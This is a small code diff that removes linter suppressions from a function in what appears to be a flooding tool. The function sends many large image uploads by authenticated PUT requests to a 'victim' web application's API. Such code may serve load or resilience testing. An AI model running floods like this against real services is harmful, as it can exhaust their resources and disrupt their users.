@@ -71,9 +71,9 @@ def pictures(victim: Victim, count: int = PICTURES, side: int = 4990) -> Flood:
     def send() -> None:
         address = f"{victim.address}/api/rack/{piece}/pictures/{uuid.uuid4()}"
         headers = {"Content-Type": "image/png", "X-CSRFToken": visitor.token, "Cookie": visitor.cookies}
-        request = urllib.request.Request(address, out.getvalue(), headers, method="PUT")  # noqa: S310
+        request = urllib.request.Request(address, out.getvalue(), headers, method="PUT")
         try:
-            with urllib.request.urlopen(request, timeout=120) as answer:  # noqa: S310
+            with urllib.request.urlopen(request, timeout=120) as answer:
                 answers.append(answer.status)
         except urllib.error.HTTPError as error:
             answers.append(error.code)
